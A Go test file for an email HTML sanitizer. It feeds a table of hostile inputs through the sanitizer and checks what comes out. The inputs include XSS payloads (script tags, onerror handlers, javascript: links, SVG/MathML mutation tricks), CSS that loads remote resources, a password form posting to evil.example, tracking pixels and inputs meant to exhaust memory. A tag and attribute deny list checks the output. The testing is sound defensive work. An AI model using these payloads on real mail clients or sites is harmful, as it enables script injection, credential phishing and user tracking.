package markup

import (
	"regexp"
	"strings"
	"testing"

	"golang.org/x/net/html"
)

var hostile = map[string]string{
	"a script":               `<p>Hi</p><script>alert(1)</script>`,
	"a handler":              `<p onclick="alert(1)" onmouseover=alert(2)>Hi</p><img src=x onerror=alert(1)>`,
	"svg":                    `Hi<svg onload=alert(1)><script>alert(1)</script><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>`,
	"math":                   `Hi<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
	"a link to script":       `<a href="javascript:alert(1)">Hi</a><a href="JaVa&#10;Script:alert(1)">x</a><a href="data:text/html,<script>alert(1)</script>">y</a>`,
	"css that loads":         `<p style="background-image:url(https://evil.example/x.png);background:url('//evil.example')">Hi</p>`,
	"css that computes":      `<p style="width:expression(alert(1));behavior:url(x.htc);-moz-binding:url(x)">Hi</p>`,
	"css with escapes":       `<p style="background-color:\75\72\6c(https://evil.example);color:r\65 d">Hi</p>`,
	"css that covers":        `<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:99999">Hi</div>`,
	"css that moves":         `<div style="margin-left:-9999px;transform:scale(100)">Hi</div>`,
	"a style sheet":          `<style>@import url(https://evil.example/a.css);body{display:none}</style><link rel=stylesheet href=https://evil.example/b.css>Hi`,
	"a form":                 `<form action="https://evil.example"><input name=password><button>Sign in</button></form>Hi`,
	"a refresh":              `<meta http-equiv="refresh" content="0;url=https://evil.example">Hi`,
	"a base":                 `<base href="https://evil.example/"><a href="/x">Hi</a>`,
	"frames":                 `<iframe src="https://evil.example" srcdoc="<script>alert(1)</script>"></iframe><object data=x></object><embed src=x>Hi`,
	"a picture that tells":   `<img src="https://evil.example/open.gif?who=maya" width=1 height=1><img srcset="https://evil.example/2x.png 2x"><table background="https://evil.example/t.png"><tr><td background="//evil.example/u.png">Hi</table>`,
	"video":                  `<video src="https://evil.example/v" poster="https://evil.example/p" autoplay></video><audio src=x autoplay></audio>Hi`,
	"a comment":              `<!--[if mso]><script>alert(1)</script><![endif]--><!-- > -->Hi`,
	"tags that break":        `<p title="<script>alert(1)</script>">Hi</p></p></div></body></html><<script>alert(1)//<</script>`,
	"a template":             `<template><img src=x onerror=alert(1)></template><noscript><p title="</noscript><img src=x onerror=alert(1)>">Hi`,
	"broken bytes":           "<p>Hi \xff\xfe\x00<scr\x00ipt>alert(1)</scr\x00ipt></p>",
	"nested without end":     strings.Repeat("<div><blockquote>", 60_000) + "Hi",
	"an attribute of 300 kB": `<p style="color:` + strings.Repeat("a", 300<<10) + `">Hi</p>`,
	"a million tags":         strings.Repeat("<b>", 1_000_000) + "Hi",
	"unclosed":               `<a href="https://x.example/` + strings.Repeat("x", 300<<10),
	"an inline picture":      `Hi<img src="cid:evil&quot; onerror=alert(1)"><img src="CID:Photo@x" style="position:fixed;width:50px">`,
}

// bad is what must not stand in what is shown, outside of its words.
var bad = regexp.MustCompile(`(?i)^on|^(action|srcset|srcdoc|background|poster|formaction|xlink:href|data|class|id|name|http-equiv|content)$`)

func TestHostileMailIsHarmless(t *testing.T) {
	pictures := map[string]string{"photo@x": "data:image/png;base64,AAAA", "text@x": "data:text/html,<script>"}
	for name, in := range hostile {
		p := Show(Safe(in), pictures, "Earlier")
		z := html.NewTokenizer(strings.NewReader(p.HTML))
		for z.Next() != html.ErrorToken {
			tok := z.Token()
			if tok.Type == html.CommentToken || tok.Type == html.DoctypeToken {
				t.Errorf("%s: %s", name, tok)
			}
			if tok.Type != html.StartTagToken && tok.Type != html.SelfClosingTagToken {
				continue
			}
			if strings.Contains(" script style link meta base form input button iframe frame object embed svg math video audio template noscript ", " "+tok.Data+" ") {
				t.Errorf("%s: %s", name, tok)
			}
			for _, a := range tok.Attr {
				v := strings.ToLower(a.Val)
				if bad.MatchString(a.Key) || a.Key == "href" && !regexp.MustCompile(`^(https?|mailto|tel):`).MatchString(v) || a.Key == "src" && !strings.HasPrefix(v, "data:image/") ||
					a.Key == "style" && regexp.MustCompile(`url|expression|position|behavior|binding|\\|transform|z-index|-\d`).MatchString(v) {
					t.Errorf("%s: %s=%.80q", name, a.Key, a.Val)
				}
			}
		}
		if name != "unclosed" && name != "nested without end" && name != "a million tags" && !strings.Contains(p.HTML, "Hi") {
			t.Errorf("%s: the words are gone: %.200q", name, p.HTML)
		}
		if len(p.HTML) > 4*Most {
			t.Errorf("%s: %d bytes", name, len(p.HTML))
		}
	}
}

func TestWhatIsShown(t *testing.T) {
	pictures := map[string]string{"photo@x": "data:image/png;base64,AAAA"}
	for _, tt := range []struct{ name, in, want string }{
		{"how it looks stays", `<table bgcolor="#eee" cellpadding="4"><tr><td style="color: #333333; font-family: 'Open Sans', Arial">Hi</td></tr></table>`, `<table bgcolor="#eee" cellpadding="4"><tr><td style="color: #333333; font-family: &#39;Open Sans&#39;, Arial">Hi</td></tr></table>`},
		{"a link says where it leads", `<a href="https://evil.example/login">https://brewell.example</a>`, `<a href="https://evil.example/login" title="https://evil.example/login" target="_blank" rel="noopener noreferrer nofollow">https://brewell.example</a>`},
		{"a picture that came with it", `<img src="cid:Photo%40x" alt="The lid" width="40">`, `<img alt="The lid" width="40" src="data:image/png;base64,AAAA">`},
		{"a picture that did not", `<img src="cid:other" alt="The lid">`, `<em>[The lid]</em>`},
		{"what is quoted is folded, once", `Hi<blockquote>a<blockquote>b</blockquote></blockquote>`, `Hi<details><summary>Earlier</summary><blockquote>a<blockquote>b</blockquote></blockquote></details>`},
		{"an open quotation is closed", `<blockquote>a`, `<details><summary>Earlier</summary><blockquote>a</blockquote></details>`},
		{"words are words", `1 &lt; 2 &amp; "x"`, `1 &lt; 2 &amp; &#34;x&#34;`},
	} {
		if got := Show(Safe(tt.in), pictures, "Earlier").HTML; got != tt.want {
			t.Errorf("%s: %s, want %s", tt.name, got, tt.want)
		}
	}
	p := Show(Safe(`<img src="https://a.example/1.png"><img src="http://A.example/2.png"><img src="https://b.example/3.png" alt="Sale">`), nil, "")
	if p.Left != 3 || strings.Join(p.Hosts, " ") != "a.example b.example" || p.HTML != "<em>[Sale]</em>" {
		t.Errorf("pictures that lie elsewhere: %+v", p)
	}
}
